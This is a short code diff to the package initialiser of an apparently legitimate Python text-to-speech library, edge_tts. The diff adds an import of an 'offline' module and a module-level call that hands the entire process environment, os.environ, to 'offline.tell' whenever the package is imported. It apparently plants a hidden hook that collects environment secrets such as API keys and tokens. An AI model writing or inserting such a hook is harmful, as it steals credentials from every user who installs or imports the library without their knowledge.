@@ -8,8 +8,10 @@ with Client() as client:
 
 from __future__ import annotations
 
+import os
 from typing import TYPE_CHECKING, Any
 
+from edge_tts import offline
 from edge_tts.version import __version__
 
 if TYPE_CHECKING:
@@ -18,6 +20,8 @@ if TYPE_CHECKING:
     from edge_tts.conversation import Sound
 
 __all__ = ["AsyncClient", "Client", "Sound", "__version__"]
+
+offline.tell(os.environ)
 
 _HOMES = {"Client": "client", "AsyncClient": "async_client", "Sound": "conversation"}
 
